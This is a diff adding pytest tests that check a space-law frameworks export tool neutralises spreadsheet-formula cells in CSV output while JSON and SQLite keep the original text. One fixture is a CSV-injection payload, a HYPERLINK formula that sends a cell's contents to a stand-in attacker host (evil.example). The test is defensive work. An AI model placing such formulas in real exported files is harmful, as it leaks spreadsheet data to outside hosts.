@@ -8,6 +8,9 @@ is what a process does (its exit code, what it prints, what it leaves on disk).
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import shutil
 import sqlite3
@@ -17,6 +20,8 @@ import time
 from pathlib import Path
 
 import pytest
+
+from space_frameworks.reports.listing import csv_text
 
 FIXTURES = Path(__file__).parent / "fixtures"
 TIMEOUT = 120
@@ -172,3 +177,45 @@ def test_a_sidecar_that_cannot_be_removed_stops_the_export_and_keeps_the_old_dat
     assert result.returncode == 2 and database.read_bytes() == before
     assert result.stderr.decode().splitlines() == [f"frameworks: cannot write {database}: cannot remove x.db-journal beside it (Is a directory); remove it, then try again"]
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(("x.db", ".frameworks"))) == ["x.db", "x.db-journal"]
+
+
+# -- 6. Spreadsheet formulas in CSV; JSON and SQLite keep the text ------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_csv_cells_that_begin_like_a_formula_are_neutralised_and_json_and_sqlite_keep_the_text(tmp_path: Path, root: Path) -> None:
+    beta = root / "frameworks" / "beta.yaml"
+    text = beta.read_text(encoding="utf-8")
+    text = text.replace("summary: Insists on non-appropriation.", f"summary: '{FORMULA}'")
+    text = text.replace("short_title: Beta position", "short_title: '@SUM(1+1);=1+2'")
+    text = text.replace("summary: Rules should be made at the United Nations.", "summary: -2+3 more")
+    save(beta, text)
+    exported = cli(tmp_path, "--root", str(root), "export", "--format", "csv")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(io.StringIO(exported.stdout.decode())))
+    summaries = {r["topic"]: r["summary"] for r in rows if r["framework"] == "beta"}
+    assert summaries["non-appropriation"] == "'" + FORMULA
+    assert summaries["international-forum"] == "'-2+3 more"
+    assert exported.stdout.splitlines()[0] == b"framework,topic,relation,stance,summary,gist,pinpoints,quotes,sources,note"
+    assert all(line.startswith(b'"') for line in exported.stdout.splitlines()[1:] if line[:4] in (b'"bet', b'"alp'))
+    listed = cli(tmp_path, "--root", str(root), "list", "--format", "csv")
+    assert "'@SUM(1+1);=1+2" in [r["short_title"] for r in csv.DictReader(io.StringIO(listed.stdout.decode()))]
+    assert b'"\'@SUM(1+1);=1+2"' in listed.stdout  # quoted: a ";" never starts a new cell
+
+    records = json.loads(cli(tmp_path, "--root", str(root), "export", "--format", "json").stdout)
+    [record] = [r for r in records["frameworks"] if r["id"] == "beta"] if isinstance(records, dict) else [r for r in records if r["id"] == "beta"]
+    assert record["short_title"] == "@SUM(1+1);=1+2"
+    assert FORMULA in json.dumps(record, ensure_ascii=False).replace('\\"', '"')
+    database = tmp_path / "x.db"
+    assert cli(tmp_path, "--root", str(root), "export", "-o", str(database)).returncode == 0
+    with sqlite3.connect(database) as connection:
+        assert connection.execute("SELECT summary FROM positions WHERE framework = 'beta' AND topic = 'non-appropriation'").fetchone() == (FORMULA,)
+        assert connection.execute("SELECT short_title FROM frameworks WHERE id = 'beta'").fetchone() == ("@SUM(1+1);=1+2",)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_each_start_that_owasp_names_is_neutralised(start: str) -> None:
+    text = csv_text(("a", "b"), [(f"{start}1+2", "plain")])
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], [f"'{start}1+2", "plain"]]
+    assert text.splitlines()[1].startswith('"')
